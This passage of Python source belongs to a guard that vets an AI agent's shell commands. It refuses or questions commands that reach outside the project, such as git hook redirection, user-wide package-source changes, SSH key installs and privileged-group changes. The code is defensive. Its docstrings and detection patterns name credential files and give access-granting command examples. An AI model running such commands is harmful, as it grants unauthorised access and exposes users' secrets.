        {"--unset", "--unset-all", "--add", "--replace-all", "--remove-section", "--rename-section", "-e", "--edit"}
        & set(options)
    )
    if not writes or not operands:
        return []
    key = operands[0].lower()
    value = " ".join(operands[1:])
    if key == "core.hookspath" and value:
        target = _resolve(os.path.expanduser(value), cmd.ctx.cwd)
        if target is not None and outside(target, roots):
            return [
                (
                    "deny",
                    f"rule git-hooks-outside: `{cmd.display}` makes git run hooks from {target}, outside the "
                    f"project {roots[0]}. Keep hooks in a folder of the project (core.hooksPath .githooks).",
                )
            ]
    if not user:
        return []
    scope = "every repository of the user" if "--global" in user else "every user's repositories"
    if (
        _GIT_ALL_REPOS_KEYS.fullmatch(key)
        or (key == "safe.directory" and value == "*")
        or (
            _GIT_COMMAND_KEYS.fullmatch(key)
            and (_GIT_RISKY_VALUE.search(value) or (key.startswith("alias.") and value.startswith("!")))
        )
    ):
        return [
            (
                "deny",
                f"rule user-config: `{cmd.display}` changes what git runs or trusts in {scope}. Set it "
                "for this repository only (`git config --local`), or ask the user to change their "
                "own configuration.",
            )
        ]
    return [
        (
            "ask",
            f"rule user-config: `{cmd.display}` writes the user's git configuration outside the project; "
            "confirm, or set it for this repository only (`git config --local`).",
        )
    ]


# Package-source settings of the user's package managers: every later install, in every
# project, downloads from the source they name. Official registries only restore the default.
_SOURCE_KEY = lazy_compile(
    r"(?:[\w-]+\.)?(?:index-url|extra-index-url|trusted-host|find-links)|(?:@[\w.-]+:)?registry|"
    r"strict-ssl|npmregistryserver|channels|channel_alias|default_channels"
)
_OFFICIAL_SOURCES = lazy_compile(r"https://(?:pypi\.org/simple|registry\.npmjs\.org|registry\.yarnpkg\.com)/?")
# Options that keep the setting inside the project (its virtualenv, its .npmrc, a named file).
_PROJECT_SCOPES = frozenset({"--site", "--location=project", "project", "--file", "--env"})


def _package_source_findings(cmd: Cmd) -> list[Finding]:
    """``pip config set global.index-url URL``, ``npm config set registry URL``, ``conda config
    --add channels URL``: a package manager's user configuration pointed at another package
    source makes every later install in every project download from it. Refused; pointing it
    back at the official registry, or setting it for the project only, is not."""
    if cmd.name not in ("pip", "pip3", "npm", "pnpm", "conda", "mamba") or not cmd.args:
        return []
    texts = [w.literal() or w.text for w in cmd.args]
    if texts[0] not in ("config", "set") or _PROJECT_SCOPES & set(texts):
        return []
    rest = texts[1:] if texts[0] == "config" else texts
    setting = [t for t in rest if t not in ("set", "--add", "--append", "--prepend", "--set") and not t.startswith("-")]
    writes = texts[0] == "set" or bool({"set", "--add", "--append", "--prepend", "--set"} & set(rest))
    if not writes or len(setting) < 2:
        return []
    key, value = setting[0].lower(), " ".join(setting[1:])
    if not _SOURCE_KEY.fullmatch(key) or _OFFICIAL_SOURCES.fullmatch(value) or value.lower() == "true":
        return []
    return [
        (
            "deny",
            f"rule package-source: `{cmd.display}` points every later {cmd.name} install of the user, in "
            "every project, at another package source or switches its checks off. Pass the source for "
            "this install only (--index-url / --registry) or in the project's own config file, or ask "
            "the user to change their configuration.",
        )
    ]


_LOGIN_KEY_FILES = frozenset({"authorized_keys", "authorized_keys2"})
_GRANT_MESSAGE = "Ask the user to grant access themselves (their key, their hosts)."


def _writes_login_keys(cmd: Cmd) -> bool:
    """Whether ``cmd`` writes an account's ``~/.ssh/authorized_keys``: ``cat >> …`` or ``tee -a …``
    run over ssh, ``cp key.pub /root/.ssh/authorized_keys``. A project's test fixture named
    authorized_keys (no ``.ssh/`` folder, on this machine) is not a login."""

    def login_file(word: Word | None) -> bool:
        text = "" if word is None else word.literal() or word.text
        return os.path.basename(text) in _LOGIN_KEY_FILES and (cmd.ctx.remote or ".ssh/" in text)

    if any(r.op in (">", ">>", ">|", "&>", "&>>") and login_file(r.target) for r in cmd.redirects):
        return True
    written = cmd.args[-1:] if cmd.name in ("cp", "mv", "install", "scp", "rsync") else cmd.args
    return cmd.name in ("tee", "cp", "mv", "install", "scp", "rsync") and any(login_file(w) for w in written)


def _hosts(cmd: Cmd) -> str:
    """The host arguments of ``ssh-copy-id`` (the last word), for the message."""
    return (cmd.args[-1].literal() or "another machine") if cmd.args else "another machine"


def _remote_login_grant(cmd: Cmd) -> list[Finding]:
    """``ansible prod -m authorized_key -a "user=root key=…"``, ``ssh-copy-id host``, ``… | ssh
    host 'cat >> ~/.ssh/authorized_keys'``: installing a login key on a machine gives whoever
    holds it access there (LABELLING.md: access for others)."""
    if cmd.name == "ssh-copy-id" and not {"-n"} & {w.literal() for w in cmd.args}:
        return [
            ("deny", f"rule access-grant: `{cmd.display}` installs an SSH login key on {_hosts(cmd)}. {_GRANT_MESSAGE}")
        ]
    if _writes_login_keys(cmd):
        return [("deny", f"rule access-grant: `{cmd.display}` adds an SSH login key to an account. {_GRANT_MESSAGE}")]
    if cmd.name not in ("ansible", "ansible-console"):
        return []
    _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"-m", "--module-name", "-a", "--args", "-i"}))
    modules = [w.literal() or w.text for w in values.get("m", []) + values.get("module-name", [])]
    args = " ".join(w.literal() or w.text for w in values.get("a", []) + values.get("args", []))
    if not any(m.rsplit(".", 1)[-1] == "authorized_key" for m in modules) or "state=absent" in args:
        return []
    return [
        (
            "deny",
            f"rule access-grant: `{cmd.display}` installs an SSH login key on other machines. {_GRANT_MESSAGE}",
        )
    ]


# Groups whose members are root in all but name: sudo rights, the container or VM daemon's
# socket, raw disks, the logs and the password hashes.
PRIVILEGED_GROUPS = frozenset({
    "sudo", "wheel", "admin", "root", "docker", "lxd", "libvirt", "kvm", "disk", "shadow", "adm",
    "systemd-journal", "podman", "staff",
})  # fmt: skip
ACCOUNT_TOOLS = frozenset({
    "usermod", "useradd", "adduser", "gpasswd", "addgroup", "groupadd", "groupmod", "userdel", "deluser",
    "passwd", "chpasswd", "chage", "chsh", "pw", "dscl", "sysadminctl", "dseditgroup",
})  # fmt: skip
# Options and subcommands that only show an account (passwd -S, chage -l, dscl . -read …).
_ACCOUNT_READS = frozenset({"-S", "--status", "-l", "--list", "usershow", "groupshow", "-read", "-list", "checkmember"})


def _account_change(cmd: Cmd) -> list[Finding]:
    """``usermod -aG sudo ci``, ``gpasswd -a deploy docker``, ``adduser app wheel``, ``passwd -d
    root``: changing the machine's accounts writes /etc/passwd, /etc/group or /etc/shadow, outside
    any project. A privileged group (root in all but name) is refused; other account changes ask."""
    if cmd.name not in ACCOUNT_TOOLS:
        return []
    lits = [w.literal() or w.text for w in cmd.args]
    if _ACCOUNT_READS & set(lits) and not (cmd.name == "passwd" and "-l" in lits):
        return []  # shows the account (passwd -l locks it: a change)
    groups: set[str] = set()
    for i, a in enumerate(lits):
        short_group = a.startswith("-") and not a.startswith("--") and bool({"G", "g"} & set(a))
        if (short_group or a in ("--groups", "--gid")) and i + 1 < len(lits):
            groups.update(lits[i + 1].split(","))
        elif a.startswith("--groups="):
            groups.update(a.split("=", 1)[1].split(","))
    if cmd.name in ("gpasswd", "adduser", "addgroup", "dseditgroup") or cmd.name == "deluser":
        groups.update(a for a in lits if not a.startswith("-"))
    if groups & PRIVILEGED_GROUPS and cmd.name not in ("userdel", "deluser"):
        granted = sorted(groups & PRIVILEGED_GROUPS)[0]
        return [
            (
                "deny",
                f"rule access-grant: `{cmd.display}` adds an account to the {granted} group, which is root in all "
                "but name. Ask the user to grant it themselves.",
            )
        ]
    return [
        (
            "ask",
            f"rule account-change: `{cmd.display}` changes the machine's accounts (/etc/passwd, /etc/group, "
            "/etc/shadow), outside the project. Confirm, or ask the user to make the change.",
        )
    ]


# Bringing a file INTO the project (a download, a dataset on a scratch or shared file system, a
# certificate from another drive, a sibling checkout's config): the command reads the source and
# writes only project files, like a developer dragging a file into the repository. It counts
# only when every destination is in the project, nothing is taken away outside (mv, rsync
# --remove-source-files) and the source is not where credentials live: the home folder's hidden
# entries (~/.ssh, ~/.config/gcloud), system folders other than readable settings, the home folder
# or a folder holding it or the project, names of keys, env files, tokens and password stores.
# secrets_guard judges credential files on its own as well.
_COPY_VALUE_OPTIONS = {
    "cp": frozenset({"-t", "--target-directory", "-S", "--suffix"}),
    "install": frozenset({
        "-m", "--mode", "-o", "--owner", "-g", "--group", "-t", "--target-directory", "-S", "--suffix",
    }),
    "ln": frozenset({"-t", "--target-directory", "-S", "--suffix"}),
    "rsync": frozenset({
        "-e", "--rsh", "--exclude", "--include", "-f", "--filter", "--files-from", "--exclude-from",
        "--include-from", "--chmod", "--chown", "--rsync-path", "--log-file", "--link-dest", "--compare-dest",
        "--copy-dest", "--backup-dir", "--partial-dir", "-T", "--temp-dir", "--max-size", "--min-size",
        "--bwlimit", "--timeout", "--port", "--out-format", "--suffix", "-B", "--block-size",
    }),
}  # fmt: skip
_TAKES_AWAY = frozenset({"remove-source-files", "d", "directory"})  # rsync's, install -d's
_RECURSIVE = frozenset({"r", "R", "a", "recursive", "archive"})
# Names that hold credentials or a person's secrets, wherever they are.
_SECRET_COMPONENT = lazy_compile(
    r"(?i)(?:^|[^a-z])(?:env|envrc|secrets?|tokens?|credentials?|creds|passw\w*|passwd|shadow|htpasswd|netrc"
    r"|npmrc|pypirc|kdbx|keychain\w*|keystore|keyring|wallet|vault|id_(?:rsa|dsa|ecdsa|ed25519)\w*|private)(?:$|[^a-z])"
    r"|\.(?:pem|key|p12|pfx|jks|gpg|asc|age|ppk|ovpn|tfstate|sqlite3?|db)$"
)
_SYSTEM_TOPS = frozenset({
    "etc", "root", "proc", "sys", "dev", "boot", "run", "var", "usr", "opt", "bin", "sbin", "lib", "lib64",
    "private", "Library", "System", "snap", "srv", "nix",
})  # fmt: skip
# A glob's last part that names one kind of file (*.png, report-*.csv), not everything in a folder.
_ONE_KIND = lazy_compile(r"[^/]*\.[A-Za-z0-9]{1,10}")
_HOME_FOLDER = lazy_compile(r"/(?:home|Users)/[^/]+|/mnt/[a-z]/Users/[^/]+")


def _import_source(cmd: Cmd, value: str, recursive: bool) -> bool:
    """Whether ``value`` (a source outside the project, globs kept) may be copied in."""
    full = _shell.normalize(value, cmd.ctx.cwd)
    if full is None:
        return False
    parts = [p for p in full.split("/") if p]
    if not parts or any(p.startswith(".") or _SECRET_COMPONENT.search(p) for p in parts):
        return False  # ~/.ssh/…, ~/.config/…, a .env, a key, a password store
    if parts[0] in _SYSTEM_TOPS:
        # /etc/nginx/nginx.conf, /usr/share/common-licenses/MIT: a file that may be read; no folder.
        return not recursive and not _shell.has_glob(full) and (system_info(full) or system_readable(full))
    prefix, glob_part = _shell.glob_split(full)
    if glob_part is not None and not recursive and _ONE_KIND.fullmatch(glob_part):
        return True  # ~/Downloads/*.png, ../*.deb: files of one kind
    # Everything in a folder (copied whole, or a bare * glob): never the root, a home folder or a
    # folder that holds the home folder or the project.
    whole = prefix if glob_part is not None else (full if recursive else None)
    if whole is None:
        return True
    home = os.path.normpath(cmd.ctx.home)
    project = os.path.normpath(cmd.ctx.project)
    return not (any(_shell.is_within(p, whole) for p in (home, project)) or _HOME_FOLDER.fullmatch(whole))


def _destinations_in_project(cmd: Cmd, dests: list[Word], roots: list[str]) -> bool:
    for dest in dests:
        values = cmd.values(dest)
        if not values:
            return False
        for value in values:
            path = _shell.normalize(value, cmd.ctx.cwd)
            if path is None or outside(path, roots) or _shell.has_glob(value):
                return False
    return bool(dests)


# Converters and the options that name their output (None: the last word is the output).
_CONVERTERS: dict[str, frozenset[str] | None] = {
    "pandoc": frozenset({"-o", "--output"}),
    "cwebp": frozenset({"-o"}),
    "libreoffice": frozenset({"--outdir"}),
    "soffice": frozenset({"--outdir"}),
    "ffmpeg": None,
    "magick": None,
    "convert": None,
    "pdftotext": None,
    "pdftoppm": None,
}


# Options of pandoc and cwebp that take a value (filters, templates and data that are not inputs).
_CONVERTER_VALUE_OPTIONS = frozenset({
    "-f", "--from", "-t", "--to", "-F", "--filter", "-L", "--lua-filter", "--template", "--reference-doc",
    "-c", "--css", "-H", "--include-in-header", "-B", "--include-before-body", "-A", "--include-after-body",
    "--resource-path", "--data-dir", "-d", "--defaults", "--metadata-file", "-M", "--metadata", "-V",
    "--variable", "-q", "--convert-to", "-resize", "-crop",
})  # fmt: skip


def _imports_into_project(cmd: Cmd, word: Word, value: str, roots: list[str]) -> bool:
    """``cp ~/Downloads/logo.svg assets/``, ``rsync -a /scratch/me/run42/ results/run42/``,
    ``ln -s /scratch/me/big data/big``, ``tar -xzf ~/Downloads/fixtures.tgz -C tests/fixtures``,
    ``unzip /mnt/c/Users/me/Downloads/fonts.zip -d static/fonts``: ``word`` is a source outside
    the project whose content (or link) only lands in the project."""
    name = cmd.name
    if name in _COPY_VALUE_OPTIONS:
        flags, pos, values = _shell.split_options(cmd.args, _COPY_VALUE_OPTIONS[name])
        if (name == "ln" and not {"s", "symbolic"} & set(flags)) or (_TAKES_AWAY & set(flags) and name != "cp"):
            return False
        if name == "cp" and {"l", "link"} & set(flags):
            return False  # a hard link: editing the project's copy would change the file outside
        targets = values.get("t", []) + values.get("target-directory", [])
        dests = targets or pos[-1:]
        sources = pos if targets else pos[:-1]
        # A link reaches all of a folder, like a recursive copy.
        recursive = name in ("rsync", "ln") or bool(_RECURSIVE & set(flags))
    elif name in ("tar", "bsdtar"):
        lits = [w.literal() or "" for w in cmd.args]
        mode = next((a.lstrip("-") for a in lits if a and not a.startswith("--")), "")
        if "x" not in mode and "extract" not in {a[2:] for a in lits} and "get" not in {a[2:] for a in lits}:
            return False
        _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"-f", "--file", "-C", "--directory"}))
        sources = values.get("f", []) + values.get("file", [])
        if not sources and mode and not lits[0].startswith("-") and "f" in mode and len(cmd.args) > 1:
            sources = [cmd.args[1]]  # tar xzf archive.tgz: the old form, options without a dash
        dests = values.get("C", []) + values.get("directory", [])
        recursive = False
    elif name == "unzip":
        _flags, pos, values = _shell.split_options(cmd.args, frozenset({"-d", "-P", "-x"}))
        sources, dests, recursive = pos[:1], values.get("d", []), False
    elif name in _CONVERTERS and cmd.args:
        # pandoc ~/Downloads/spec.docx -o docs/spec.md, ffmpeg -i ~/Movies/demo.mov docs/demo.gif:
        # a document or medium converted into the project (inputs only; filters and templates,
        # which run or shape output, stay judged).
        out_options = _CONVERTERS[name]
        if out_options:
            _flags, pos, values = _shell.split_options(cmd.args, out_options | _CONVERTER_VALUE_OPTIONS)
            dests = [w for o in out_options for w in values.get(o.lstrip("-"), [])]
        elif name == "ffmpeg":
            _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"-i"}))
            pos, dests = values.get("i", []), cmd.args[-1:]
        else:
            pos, dests = [w for w in cmd.args[:-1] if not (w.literal() or "").startswith("-")], cmd.args[-1:]
        sources, recursive = [w for w in pos if not any(w is d for d in dests)], False
    else:
        return False
    if not any(w is word for w in sources):
        return False
    if not dests:
        cwd = cmd.ctx.cwd
        if cwd is None or outside(cwd, roots) or name not in ("tar", "bsdtar", "unzip"):
            return False
    elif not _destinations_in_project(cmd, dests, roots):
        return False
    return _import_source(cmd, value, recursive)


# Debian and RPM packaging put their results beside the source by design: dpkg-buildpackage,
# debuild and sbuild write ../pkg_1.0-1_amd64.deb, .changes, .buildinfo, .dsc and .build logs,
# gbp buildpackage ../build-area/, pbuilder /var/cache/pbuilder/result/, rpmbuild
# ~/rpmbuild/RPMS/. Inspecting, signing or copying those results into the project is the
# packaging workflow; deleting or installing them is judged as before.
_PACKAGE_RESULT = lazy_compile(
    r"[^/]*(?:\.(?:deb|udeb|ddeb|changes|buildinfo|dsc|build|rpm)|\.(?:orig|debian)(?:-[\w.-]+)?\.tar(?:\.\w+)?)"
)
_PACKAGE_INSPECTORS = frozenset(
    {"lintian", "debc", "debdiff", "debsign", "dput", "dcut", "rpmlint", "dpkg-deb", "piuparts"}
)
_PACKAGE_QUERIES = {
    "dpkg": frozenset({"-c", "--contents", "-I", "--info", "-f", "--field"}),
    "rpm": frozenset({"-qp", "-qpl", "-qpi", "-qip", "-qlp", "-qpR", "--query", "-K", "--checksig"}),
    "gpg": frozenset({"--verify"}),
}


def package_result(path: str, cmd: Cmd) -> bool:
    """Whether ``path`` (globs kept) is a packaging tool's result in its documented place."""
    folder, base = os.path.split(path)
    if not _PACKAGE_RESULT.fullmatch(base):
        return False
    parent = os.path.dirname(os.path.normpath(cmd.ctx.project))
    home = os.path.normpath(cmd.ctx.home)
    return (
        folder in (parent, os.path.join(parent, "build-area"), "/var/cache/pbuilder/result")
        or _shell.is_within(folder, os.path.join(home, "rpmbuild", "RPMS"))
        or _shell.is_within(folder, os.path.join(home, "rpmbuild", "SRPMS"))
    )


def _handles_package_result(cmd: Cmd, word: Word, value: str, roots: list[str]) -> bool:
    """``lintian ../*.changes``, ``dpkg -c ../hello_2.10-3_amd64.deb``, ``rpmlint
    ~/rpmbuild/RPMS/noarch/*.rpm``, ``cp ../*.deb dist/``: a packaging tool's own results."""
    path = _shell.normalize(value, cmd.ctx.cwd)
    if path is None or not package_result(path, cmd):
        return False
    if cmd.name in _PACKAGE_INSPECTORS:
        return not any(r.target is word and r.op not in ("<", "<&") for r in cmd.redirects)
    lits = {w.literal() or "" for w in cmd.args}
    if cmd.name in _PACKAGE_QUERIES:
        return bool(_PACKAGE_QUERIES[cmd.name] & lits) and not {"-i", "--install", "-U", "-e"} & lits
    if cmd.name in ("cp", "mv", "install"):
        _flags, pos, values = _shell.split_options(cmd.args, _COPY_VALUE_OPTIONS["cp"])
        targets = values.get("t", []) + values.get("target-directory", [])
        dests = targets or pos[-1:]
        return not any(w is word for w in dests) and _destinations_in_project(cmd, dests, roots)
    return _reads_only(cmd, word)


def check_bash(command: str, ctx: _shell.Ctx) -> list[Finding]:
    """Findings for a Bash command: paths outside the allowed roots."""
    try:
        cmds = _shell.walk(command, ctx)
    except _shell.ShellParseError as exc:
        return [
            (
                "deny",
                f"rule parse: could not parse the command safely ({exc}); blocked (fail closed). "
                "Fix the quoting or split it into simpler commands.",
            )
        ]
    roots = allowed_roots(ctx.project)
    found: list[Finding] = []
    made: set[str] = set()  # what the command created so far (its own scratch files)
    # SDK_ROOT=$ANDROID_HOME: which tool variable a variable of the command copies.
    aliases = {m.group("name"): m.group("source") for m in _ALIAS.finditer(command)}
    # What later parts of the command line write as their output (``rm -rf /tmp/report && tool
    # --output=/tmp/report``): clearing a folder the task is about to regenerate is its own.
    outputs = {p for c in cmds if not c.ctx.remote for p in created_paths(c)}
    for cmd in cmds:
        if cmd.ctx.remote:
            # Remote commands' paths are the other machine's; granting a login there still counts.
            found.extend(_remote_login_grant(cmd))
            continue
        found.extend(_listed_temp_deletes(cmd, roots, made))
        found.extend(_tool_cache_clean(cmd))
        found.extend(_temp_exec(cmd, roots, made))
        found.extend(_git_config_findings(cmd, roots))
        found.extend(_package_source_findings(cmd))
        found.extend(_remote_login_grant(cmd))
        found.extend(_account_change(cmd))
        # Files an interpreter's inline code only opens for reading (open('/etc/os-release')).
        code_reads = (
            {path for path, writes in _shell.code_file_refs(cmd) if not writes}
            - {path for path, writes in _shell.code_file_refs(cmd) if writes}
            if cmd.name in _shell.INTERPRETERS
            else set()
        )
        found.extend(_system_install(cmd, roots))
        if _dry_run(cmd):
            continue  # stow -n, rsync --dry-run: reports what it would do, changes nothing
        found.extend(_uploads_outside_file(cmd, roots))
        if _mounts_project_image(cmd, roots):
            continue  # sudo mount -o loop build/rootfs.img /mnt/rootfs: an image from the project
        deleted = deleted_words(cmd)
        for word in _bash_path_words(cmd):
            if id(word) in deleted:
                found.extend(_tool_folder_delete(cmd, word, aliases))
                found.extend(_unset_root_delete(cmd, word))
            # Unknown parts become "*": /etc/$FILE is still under /etc.
            known = cmd.values(word)
            for value in known or _temp_var_value(word, cmd.ctx) or [_shell.expand_pattern(word, cmd.ctx)]:
                if _WINDOWS_PATH.match(word.raw.strip("'\"")) and (id(word) in deleted or cmd.name in _WINDOWS_WRITERS):
                    # Remove-Item -Recurse C:\Users\dev\*: a Windows drive is never inside the project.
                    found.append(("deny", _reason(f"`{cmd.display}` changes {value} on a Windows drive", roots)))
                    continue
                if not _path_like(value) or (
                    cmd.name in _DOUBLE_SLASH_TOOLS and value.startswith("//") and ".." not in value.split("/")
                ):
                    continue  # p4 clean //depot/…, bazel test //pkg:target, blender -o //renders/
                path = _resolve(value, cmd.ctx.cwd)
                if path is None or not outside(path, roots):
                    continue
                if id(word) not in deleted and _names_no_local_file(cmd, word, value):
                    continue  # kubectl get --raw /apis/…, etcdctl get /registry/…: not a file here
                if scratch(path, value, cmd.ctx.cwd, roots, cmd.ctx.home):
                    if id(word) in deleted and path not in outputs and not _names_own_pid(word):
                        found.extend(_temp_delete(cmd, value, made, under=cmd.name in ("find", "fd", "fdfind")))
                    continue
                # /etc/$FILE is not known to be readable: it may name /etc/shadow.
                readable = (
                    system_info(path)
                    or (bool(known) and system_readable(path))
                    or public_credential(path, cmd.ctx.home)
                    or (bool(known) and user_service_definition(path, cmd.ctx.home))
                )
                if (
                    (readable and (_reads_only(cmd, word) or value in code_reads or _decodes_signed_data(cmd)))
                    or (bool(known) and _inspects_system_file(cmd, word, path))
                    or _inspects_backup_repo(cmd)
                    or _key_fingerprint(cmd, word, path)
                    or any(w is word for w in _shell.checked_key_words(cmd))
                    or _sources_tool_env(cmd, word, path)
                    or _sources_installed_env(cmd, word, path)
                    or _searches_startup_file(cmd, word, path)
                    or _searches_machine_log(cmd, word, _shell.normalize(value, cmd.ctx.cwd) or path)
                    or _cat_into_search(cmd, word, path, cmds)
                    or _metadata_only(cmd, word, path)
                    or _counts_only(cmd, word)
                    or _owner_only_chmod(cmd, path)
                    or _hardens_system_file(cmd, path)
                    or _device_use(cmd, word, path)
                    or _uses_key(cmd, path)
                    or _makes_folder(cmd, path)
                    or _reads_dependency(cmd, word, path)
                    or _reads_tool_log(cmd, word, path)
                    or (bool(known) and _imports_into_project(cmd, word, value, roots))
                    or (bool(known) and _handles_package_result(cmd, word, value, roots))
                ):
                    continue
                if _whole_settings_read(cmd, word, path, cmds) and bool(known):
                    # cat ~/.gitconfig, tail -20 ~/.bashrc: the user's own settings, judged by what
                    # the file holds: nothing credential-like (or no file) shows nothing secret.
                    if _sent_away(cmd, cmds) or _settings_may_hold_credentials(path):
                        found.append(("ask", _settings_read_reason(f"`{cmd.display}`")))
                    continue
                if path is not None:
                    found.append(("deny", _reason(f"`{cmd.display}` touches {path}", roots)))
        made |= created_paths(cmd)
    return found


# Regenerable data outside the project (LABELLING.md's settled calls: a human confirms): a tool's
# own command that empties its cache, and a delete under a folder a tool's variable or query names.
_CACHE_CLEANERS = (
    (frozenset({"conda", "mamba", "micromamba"}), ("clean",)),
    (frozenset({"npm", "yarn"}), ("cache", "clean")),
    (frozenset({"pnpm"}), ("store", "prune")),
    (frozenset({"pip", "pip3"}), ("cache", "purge")),
    (frozenset({"pip", "pip3"}), ("cache", "remove")),
    (frozenset({"uv"}), ("cache", "clean")),
    (frozenset({"uv"}), ("cache", "prune")),
    (frozenset({"poetry"}), ("cache", "clear")),
    (frozenset({"brew", "gem"}), ("cleanup",)),
    (frozenset({"flutter", "dart"}), ("pub", "cache", "clean")),
    (frozenset({"pod"}), ("cache", "clean")),
    (frozenset({"composer"}), ("clear-cache",)),
    (frozenset({"composer"}), ("clearcache",)),
    (frozenset({"huggingface-cli"}), ("delete-cache",)),
    (frozenset({"hf"}), ("cache", "delete")),
    (frozenset({"dotnet"}), ("nuget", "locals")),
    # Package stores of system-wide managers: old generations and unused paths, regenerable,
    # though deleting generations also removes the rollbacks to them.
    (frozenset({"nix-collect-garbage"}), ()),
    (frozenset({"nix"}), ("store", "gc")),
    (frozenset({"nix-store"}), ("--gc",)),
    (frozenset({"bun"}), ("pm", "cache", "rm")),
    (frozenset({"deno"}), ("clean",)),
    (frozenset({"yarn"}), ("cache", "clean")),
)
TOOL_HOME_VARS = frozenset({
    "ANDROID_HOME", "ANDROID_SDK_ROOT", "ANDROID_NDK_HOME", "GRADLE_USER_HOME", "CARGO_HOME", "RUSTUP_HOME",
    "GOPATH", "GOMODCACHE", "GOCACHE", "CONDA_PREFIX", "PYENV_ROOT", "NVM_DIR", "JAVA_HOME", "PIP_CACHE_DIR",
    "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "npm_config_cache", "HF_HOME", "TRANSFORMERS_CACHE",
    "TORCH_HOME", "DOTNET_ROOT", "FLUTTER_ROOT", "PUB_CACHE", "M2_HOME", "MAVEN_HOME", "SDKMAN_DIR", "DENO_DIR",
    "BUN_INSTALL", "PLAYWRIGHT_BROWSERS_PATH", "CONDA_PKGS_DIRS",
})  # fmt: skip
_CACHE_QUERY = lazy_compile(
    r"\b(?:npm\s+config\s+get\s+\w+|pip3?\s+cache\s+dir|go\s+env\s+\w+|yarn\s+cache\s+dir|pnpm\s+store\s+path|"
    r"brew\s+--(?:cache|prefix)|conda\s+info\s+--base|poetry\s+config\s+cache-dir|uv\s+cache\s+dir|"
    r"python3?\s+-m\s+site\s+--user-\w+)"
)
_ALIAS = lazy_compile(r"(?:^|[;&|\s(])(?:export\s+)?(?P<name>[A-Za-z_]\w*)=[\"']?\$\{?(?P<source>[A-Za-z_]\w*)")


# Short flags that make a cache cleaner only report (list, dry run), by tool.
_CACHE_REPORT_FLAGS = {
    "dotnet": frozenset({"-l"}),
    "brew": frozenset({"-n"}),
    "nix-store": frozenset({"-n"}),
    "nix-collect-garbage": frozenset({"-n"}),
    "nix": frozenset({"-n"}),
    "conda": frozenset({"-d"}),
    "mamba": frozenset({"-d"}),
    "micromamba": frozenset({"-d"}),
    "gem": frozenset({"-d"}),
}


def _tool_cache_clean(cmd: Cmd) -> list[Finding]:
    """``conda clean --all``, ``npm cache clean --force``, ``go clean -modcache``: a tool empties
    its cache outside the project, regenerable but shared by every project."""
    lits = [w.literal() or "" for w in cmd.args]
    words = [a for a in lits if not a.startswith("-") or a == "--gc"]
    hit = any(cmd.name in names and tuple(words[: len(sub)]) == sub for names, sub in _CACHE_CLEANERS)
    if {"--print-dead", "--print-live", "--dry-run", "--list"} & set(lits) or (
        _CACHE_REPORT_FLAGS.get(cmd.name or "", frozenset()) & set(lits)
    ):
        hit = False  # dotnet nuget locals all --list, brew cleanup -n: only reports what it would clean
    if cmd.name == "go" and words[:1] == ["clean"]:
        hit = bool({"-modcache", "-cache", "-fuzzcache"} & set(lits))
    if not hit:
        return []
    return [
        (
            "ask",
            f"rule tool-cache: `{cmd.display}` deletes a cache outside the project, shared by every project; "
            "it can be downloaded again but that is slow. Confirm, or clean only the project's own build output.",
        )
    ]


def _unset_root_delete(cmd: Cmd, word: Word) -> list[Finding]:
    """``rm -rf "$STAGING_DIR/"``, ``sudo rm -rf "${OUT}/"*``: the variable is set nowhere in the
    command and not guarded with ``${VAR:?}``, so when it is empty the recursive delete starts at
    the filesystem root, far outside the project. So does a variable set from such a value
    (``DIST="${BUILD_ROOT}/" && rm -rf $DIST*``)."""
    if cmd.name != "rm":
        return []
    if not _shell.unknown_then_slash(word, cmd.ctx):
        return []
    flags, _positionals, _values = _shell.split_options(cmd.args)
    if not {"r", "R", "recursive"} & set(flags):
        return []
    if any(isinstance(p, _shell.Var) and p.name in TEMP_VARS | TOOL_HOME_VARS for p in word.parts[:1]):
        return []  # $TMPDIR/…, $ANDROID_HOME/…: judged as the folder they name
    name = word.text.split("/")[0]
    first = word.parts[0]
    # DIST="${BUILD_ROOT}/" earlier in the line: say which variable the slash came from.
    assigned = cmd.ctx.assigned.get(first.name) if isinstance(first, _shell.Var) else None
    if isinstance(first, _shell.Var) and assigned is not None and _shell.unknown_then_slash(assigned, cmd.ctx):
        return [
            (
                "deny",
                f"rule unset-root: `{cmd.display}` deletes from the filesystem root: ${first.name} is a variable "
                "that is set nowhere in the command followed by a slash, so it is just '/' when that one is empty. "
                "Set the folder in the same command or write ${VAR:?} so an empty value stops it.",
            )
        ]
    return [
        (
            "deny",
            f"rule unset-root: `{cmd.display}` deletes from the filesystem root if {name} is empty or unset (it is "
            f"set nowhere in the command). Set it in the same command or write ${{VAR:?}} so an empty value stops it.",
        )
    ]


def _tool_folder_delete(cmd: Cmd, word: Word, aliases: dict[str, str]) -> list[Finding]:
    """``rm -rf "$ANDROID_HOME/build-tools/30.0.2"``, ``rm -rf "$(npm config get cache)/_cacache"``:
    a delete under a folder that a tool's variable or query names, outside the project."""
    first = word.parts[0] if word.parts else None
    named: str | None = None
    if isinstance(first, _shell.Var) and cmd.ctx.vars.get(first.name) is None:
        source = aliases.get(first.name, first.name)
        named = f"${source}" if source in TOOL_HOME_VARS else None
    elif isinstance(first, _shell.Sub) and _CACHE_QUERY.search(first.source):
        named = f"$({first.source})"
    if named is None:
        return []
    return [
        (
            "ask",
            f"rule tool-cache: `{cmd.display}` deletes under {named}, a tool's folder outside the project; "
            "regenerable, but shared by every project. Confirm, or delete only the project's own output.",
        )
    ]


def _temp_delete(cmd: Cmd, value: str, made: set[str], under: bool = False) -> list[Finding]:
    """Deleting ``value`` in the temp folder (with ``under``: the files under it, as ``find
    -delete`` does): the command's own scratch files go; anything else may belong to another
    program or session, so the user confirms; the temp folder itself is not the command's to
    delete."""
    target = _shell.normalize(value, cmd.ctx.cwd)
    if target is None or any(_shell.is_within(target, m) for m in made):
        return []
    if _reaches_project(target, cmd.ctx.project, under):
        return [
            (
                "deny",
                f"rule outside-project: `{cmd.display}` deletes {target}, which holds the project "
                f"{cmd.ctx.project} itself. Delete the scratch files by name, or only inside the project.",
            )
        ]
    if (target in temp_roots() or target == cluster_scratch_root(target)) and not under:
        return [
            (
                "deny",
                f"rule outside-project: `{cmd.display}` deletes the scratch folder {target} itself. Delete "
                "the scratch files the task made instead (create them with `mktemp -d` and remove that folder).",
            )
        ]
    what = f"files under {target}" if under else target
    return [
        (
            "ask",
